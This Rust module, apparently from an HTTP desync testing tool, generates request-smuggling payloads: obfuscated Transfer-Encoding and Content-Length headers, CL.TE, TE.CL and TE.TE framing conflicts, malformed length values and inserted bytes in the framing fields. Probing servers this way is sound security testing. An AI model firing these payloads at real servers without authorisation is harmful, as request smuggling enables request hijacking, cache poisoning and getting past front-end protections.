//! Fields that say how long a body is: spelt, repeated and combined so that servers may disagree.

use super::{HIDDEN, cl_te, request, te_cl};
use crate::desync::payload::{Payloads, byte, sent_len};

/// Lines that some server reads as `Transfer-Encoding: chunked` and another one does not.
fn transfer_encoding_lines() -> Vec<String> {
    let mut lines: Vec<String> = [
        "xchunked",
        "chunkedx",
        "chunk",
        "chunked ,",
        ", chunked",
        ",chunked",
        "chunked, identity",
        "identity, chunked",
        "chunked, cow",
        "cow, chunked",
        "chunked; x",
        "chunked;q=1",
        "\"chunked\"",
        "'chunked'",
        "chunked\\",
        "(chunked)",
        "=chunked",
        "chunked chunked",
        "chunked, chunked",
        "gzip, chunked",
        "chunked, gzip",
        "deflate",
        "identity",
        "none",
        "0",
        "nothing",
        "compress, chunked",
        "CHUNKED, identity",
        "\u{212a}chunked",
        "chun\u{212a}ed",
        "chu\u{17f}ked",
        "\u{130}dentity",
        "",
        " ",
        "\t",
        "chunked\0",
        "\0chunked",
        "\u{b}chunked",
        "chunked\u{b}",
        "\u{c}chunked",
        "chunked\u{c}",
        "\u{a0}chunked",
        "chunked\u{85}",
        "\u{2028}chunked",
        "\u{3000}chunked",
        "%63hunked",
        "chu\\\r\n nked",
        "\r\n chunked",
        "\r\n\tchunked",
        "chunked\r\n x",
        "\r chunked",
        "\n chunked",
        "chunked\r",
        "chun\rked",
    ]
    .iter()
    .map(|value| format!("Transfer-Encoding: {value}\r\n"))
    .collect();
    lines.extend(
        [
            "Transfer-Encoding : chunked",
            "Transfer-Encoding\t: chunked",
            " Transfer-Encoding: chunked",
            "\tTransfer-Encoding: chunked",
            "X: X\nTransfer-Encoding: chunked",
            "X: X\rTransfer-Encoding: chunked",
            "X: X\r\r\nTransfer-Encoding: chunked",
            "X: X\n\rTransfer-Encoding: chunked",
            "X:\r\n Transfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            "TRANSFER_ENCODING: chunked",
            "Transfer-encoding\0: chunked",
            "Transfer-Encoding\r\n : chunked",
            "Transfer-Encoding\r\n: chunked",
            "Transfer-Encoding;: chunked",
            "Transfer-Encoding= chunked",
            "Transfer-Encoding chunked",
            "Transfer Encoding: chunked",
            "Transfer\u{2010}Encoding: chunked",
            "\"Transfer-Encoding\": chunked",
            "(Transfer-Encoding): chunked",
            ":Transfer-Encoding: chunked",
            ": Transfer-Encoding: chunked",
            "Transfer-Encoding:: chunked",
            "Transfer-Encoding: : chunked",
            "Transfer-Encoding:\0 chunked",
            "Tr\u{c5}ansfer-Encoding: chunked",
            "Content-Encoding: chunked",
            "X-Transfer-Encoding: chunked",
        ]
        .iter()
        .map(|line| format!("{line}\r\n")),
    );
    lines
}

/// TE.TE, CL.TE and TE.CL with every spelling, alone and beside a good field, in both orders.
pub(super) fn transfer_encodings(all: &mut Payloads) {
    let ((cl_length, cl_te), (te_length, te_cl)) = (cl_te(), te_cl());
    for line in transfer_encoding_lines() {
        let name = |rule: &str| format!("{rule} with {line:?}");
        for (rule, length, body) in [("CL.TE", cl_length, &cl_te), ("TE.CL", te_length, &te_cl)] {
            let length = format!("Content-Length: {length}\r\n");
            all.add(name(rule), &request("POST", &format!("{length}{line}"), body));
            all.add(name(&format!("{rule}, reversed")), &request("POST", &format!("{line}{length}"), body));
        }
        all.add(name("TE alone"), &request("POST", &line, &cl_te));
        let good = "Transfer-Encoding: chunked\r\n";
        all.add(name("TE.TE"), &request("POST", &format!("{good}{line}"), &cl_te));
        all.add(name("TE.TE, reversed"), &request("POST", &format!("{line}{good}"), &cl_te));
        all.add(name("TE.0"), &request("OPTIONS", &line, &cl_te));
        all.add(name("a trailing coding"), &request("GET", &line, &cl_te));
    }
}

/// Values that some server reads as a number.
const LENGTHS: [&str; 44] = [
    "",
    " ",
    "+5",
    "-5",
    "-0",
    "5 ",
    "05",
    "0000000005",
    "000000000000000000005",
    "5,5",
    "5, 5",
    "5,6",
    "0,5",
    "5,",
    ",5",
    "5;5",
    "5 5",
    "5\t5",
    "0x5",
    "5h",
    "5.0",
    "5e0",
    "1e1",
    "5_0",
    "'5'",
    "\"5\"",
    "5\0",
    "\0",
    "\u{b}5",
    "5\u{c}",
    "\u{a0}5",
    "\u{665}",
    "\u{ff15}",
    "\u{b2}",
    "NaN",
    "inf",
    "18446744073709551616",
    "18446744073709551621",
    "9223372036854775808",
    "4294967301",
    "99999999999999999999999",
    "\r\n 5",
    "5\r\n 0",
    "chunked",
];

pub(super) fn content_lengths(all: &mut Payloads) {
    for value in LENGTHS {
        for method in ["POST", "GET"] {
            let line = format!("Content-Length: {value}\r\n");
            all.add(format!("CL {value:?} with {method}"), &request(method, &line, HIDDEN));
            all.refuse(
                format!("CL {value:?} beside a good one with {method}"),
                &request(method, &format!("Content-Length: 0\r\n{line}"), HIDDEN),
            );
            all.add(
                format!("CL {value:?} beside chunks with {method}"),
                &request(method, &format!("{line}Transfer-Encoding: chunked\r\n"), "0\r\n\r\n"),
            );
        }
        let spelt = [
            "content_length",
            "Content Length",
            "Content-Length ",
            "\u{131}ontent-length",
            "Content\u{2011}Length",
            "X\r\nContent-Length",
        ];
        for name in spelt {
            all.add(
                format!("{name:?} of {value:?}"),
                &request("POST", &format!("{name}: {value}\r\n"), HIDDEN),
            );
        }
    }
}

/// Two framing fields that disagree, however they are spelt.
pub(super) fn pairs(all: &mut Payloads) {
    let fields = [
        "Content-Length: 0",
        "Content-Length: 5",
        "content-length: 44",
        "Content-Length: 0, 0",
        "Transfer-Encoding: chunked",
        "transfer-encoding: CHUNKED",
        "Transfer-Encoding: identity",
        "Transfer-Encoding: gzip, chunked",
    ];
    let (_, body) = cl_te();
    for first in fields {
        for second in fields {
            for between in ["", "X: y\r\n", "X:\r\n"] {
                all.refuse(
                    format!("{first} and {second}"),
                    &request("POST", &format!("{first}\r\n{between}{second}\r\n"), &body),
                );
            }
        }
    }
}

/// Each of the 256 bytes at each place of a framing field.
pub(super) fn inserted_bytes(all: &mut Payloads) {
    let ((cl_length, cl_te), (te_length, te_cl)) = (cl_te(), te_cl());
    for value in 0..=255u8 {
        let at = byte(value);
        for (place, te, cl) in [
            ("before the name", format!("{at}Transfer-Encoding: chunked"), format!("{at}Content-Length: ")),
            ("within the name", format!("Transfer{at}Encoding: chunked"), format!("Content{at}Length: ")),
            ("behind the name", format!("Transfer-Encoding{at}: chunked"), format!("Content-Length{at}: ")),
            ("before the value", format!("Transfer-Encoding:{at}chunked"), format!("Content-Length:{at}")),
        ] {
            let name = |rule: &str| format!("{rule} with byte {value:#04x} {place}");
            let line = format!("Content-Length: {cl_length}\r\n{te}\r\n");
            all.add(name("CL.TE"), &request("POST", &line, &cl_te));
            let line = format!("{te}\r\nContent-Length: {te_length}\r\n");
            all.add(name("TE.CL"), &request("POST", &line, &te_cl));
            all.add(name("TE alone"), &request("POST", &format!("{te}\r\n"), &cl_te));
            all.add(name("CL alone"), &request("POST", &format!("{cl}{}\r\n", sent_len(HIDDEN)), HIDDEN));
        }
        all.add(
            format!("TE with byte {value:#04x} behind the value"),
            &request("POST", &format!("Transfer-Encoding: chunked{at}\r\n"), &cl_te),
        );
        all.add(
            format!("CL with byte {value:#04x} behind the value"),
            &request("POST", &format!("Content-Length: 0{at}\r\n"), HIDDEN),
        );
        all.add(
            format!("byte {value:#04x} before the request line"),
            &format!("{at}GET {{o}} HTTP/1.1\r\nHost: a\r\n\r\n"),
        );
        all.add(
            format!("byte {value:#04x} in a value"),
            &request(
                "GET",
                &format!("X: y{at}Content-Length: 44\r\n"),
                HIDDEN.split('X').next().unwrap_or_default(),
            ),
        );
        all.add(
            format!("byte {value:#04x} in the target"),
            &format!("GET {{o}}{at}x HTTP/1.1\r\nHost: a\r\n\r\n"),
        );
        all.add(
            format!("byte {value:#04x} behind a chunk size"),
            &request("POST", "Transfer-Encoding: chunked\r\n", &format!("0{at}\r\n\r\n")),
        );
    }
}
